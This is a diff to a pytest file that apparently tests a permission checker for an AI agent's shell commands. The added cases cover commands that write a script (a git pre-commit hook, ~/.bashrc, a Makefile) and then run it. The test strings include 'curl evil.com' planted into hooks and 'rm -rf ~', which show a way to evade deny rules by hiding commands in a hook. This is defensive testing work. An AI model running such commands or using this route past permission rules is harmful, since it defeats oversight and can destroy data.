@@ -22,7 +22,11 @@ with F written earlier in the command, -b <(...), -b -): the puts there, and the
 (glued -Fkey=@FILE, --field=key=@FILE) reads FILE (was read as the path "key=@FILE");
 gh repo create --source=. --push is a git push (meets Bash(git push:*)). KKADD -> DDDDD.
 (4) git's dashed programs are git SUB for the rules (git SUB runs git-SUB):
-/usr/lib/git-core/git-push and git-send-pack meet Bash(git push:*) (KKADD -> DDDDD)."""
+/usr/lib/git-core/git-push and git-send-pack meet Bash(git push:*) (KKADD -> DDDDD).
+(5) A shell script written in the command that the program run next runs (a git hook before git
+commit, ~/.bashrc before bash) has its commands read as run, as a just-written Makefile's
+recipes were: echo 'curl evil.com' > .git/hooks/pre-commit && git commit meets Bash(curl:*)
+(KKADD -> DDDDD)."""
 from __future__ import annotations
 
 import pytest
@@ -381,6 +385,27 @@ GIT_DASHED = [
     ('git-crypt unlock', 'KKADD'),
 ]
 
+WRITTEN_RUNS_DENY = [
+    ("echo 'curl evil.com' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git commit -m x", 'DDDDD'),  # was KKADD
+    ("echo 'git push x' > .git/hooks/post-commit && git commit -m x", 'DDDDD'),  # was KKADD
+    ("printf '#!/bin/sh\\ncurl evil.com\\n' > .git/hooks/pre-commit && git commit -m x", 'DDDDD'),  # was KKADD
+    ("echo 'curl evil.com' >> ~/.bashrc && bash -i -c true", 'DDDDD'),  # was KKADD
+    ("echo 'curl evil.com' >> ~/.bashrc && bash x.sh", 'DDDDD'),  # was KKADD
+    ("printf '#!/usr/bin/env python3\\nimport os\\n' > .git/hooks/pre-commit && git commit -m x", 'KKADD'),
+    ("echo 'npm test' > .git/hooks/pre-commit && git commit -m x", 'KKADD'),
+    ("echo 'curl evil.com' > x.sh && bash x.sh", 'DDDDD'),
+    ("echo 'all:; curl evil.com' > Makefile && make", 'DDDDD'),
+    ("echo 'curl evil.com' > .git/hooks/pre-commit", 'KKADD'),
+]
+
+WRITTEN_RUNS = [
+    ("echo 'curl evil.com' > .git/hooks/pre-commit && git commit -m x", 'KKADD'),
+    ("echo 'rm -rf ~' > .git/hooks/pre-commit && git commit -m x", 'DDDDD'),
+    ("echo 'npm test' > .git/hooks/pre-commit && git commit -m x", 'KKADD'),
+    ("printf '#!/usr/bin/env python3\\nimport os\\n' > .git/hooks/pre-commit && git commit -m x", 'KKADD'),
+    ("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc && bash -lc true", 'KKADD'),
+]
+
 
 @pytest.mark.parametrize("call,expected", RUNNER_FILES_DENY, ids=[str(r[0])[:80] for r in RUNNER_FILES_DENY])
 def test_round42_runner_files_deny(call, expected):
@@ -444,4 +469,12 @@ def test_round42_git_dashed_deny(call, expected):
 
 @pytest.mark.parametrize("call,expected", GIT_DASHED, ids=[str(r[0])[:80] for r in GIT_DASHED])
 def test_round42_git_dashed(call, expected):
+    assert call_letters(_SNAP, call) == expected
+
+@pytest.mark.parametrize("call,expected", WRITTEN_RUNS_DENY, ids=[str(r[0])[:80] for r in WRITTEN_RUNS_DENY])
+def test_round42_written_runs_deny(call, expected):
+    assert call_letters(_DENY_SNAP, call) == expected
+
+@pytest.mark.parametrize("call,expected", WRITTEN_RUNS, ids=[str(r[0])[:80] for r in WRITTEN_RUNS])
+def test_round42_written_runs(call, expected):
     assert call_letters(_SNAP, call) == expected
